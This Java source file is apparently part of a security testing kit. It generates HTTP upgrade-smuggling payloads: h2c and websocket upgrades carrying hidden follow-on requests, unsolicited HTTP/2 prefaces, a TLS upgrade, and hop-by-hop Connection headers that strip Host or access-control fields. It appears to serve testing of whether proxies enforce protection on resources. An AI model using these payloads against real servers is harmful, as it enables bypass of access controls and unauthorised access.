package dev.zt.devkit.attack;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Attacks that leave HTTP/1.1 for another protocol on its connection. */
final class UpgradeAttacks {

    private static final String H2C =
            fields("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__");
    private static final String WEBSOCKET = fields(
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==");

    private UpgradeAttacks() {}

    private static String fields(String... fields) {
        return String.join("\r\n", fields) + "\r\n\r\n";
    }

    static List<Attack> of(ProtectedResource resource) {
        Http1Text http = new Http1Text(resource);
        String hidden = http.get(resource.path);
        String target = http.begin(resource.method, resource.path);
        String open = http.begin(resource.method, resource.openPath);
        List<Attack> attacks = new ArrayList<>();
        add(attacks, "h2c", target + H2C);
        add(attacks, "h2c, then a stream", open + H2C + Http2Frames.PREFACE + frames(resource, 3));
        add(attacks, "h2c, then HTTP/1.1", open + H2C + hidden);
        add(attacks, "HTTP/2 without asking", Http2Frames.PREFACE + frames(resource, 1));
        add(attacks, "websocket", target + WEBSOCKET);
        add(attacks, "websocket, then HTTP/1.1", open + WEBSOCKET + hidden);
        add(attacks, "TLS", target + "Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n");
        add(attacks, "a hop-by-hop Host", target + "Connection: close, Host\r\n\r\n");
        if (resource.deniedFor != null) {
            add(attacks, "a hop-by-hop field", target + "Connection: close, " + resource.deniedFor.name() + "\r\n\r\n");
        }
        return attacks;
    }

    private static void add(List<Attack> attacks, String name, String octets) {
        attacks.add(new Attack(AttackClass.UPGRADE, name, new Message.Http1(octets)));
    }

    private static String frames(ProtectedResource resource, int stream) {
        return new String(
                Http2Frames.request(stream, new Http2Text(resource).get(resource.path)), StandardCharsets.ISO_8859_1);
    }
}
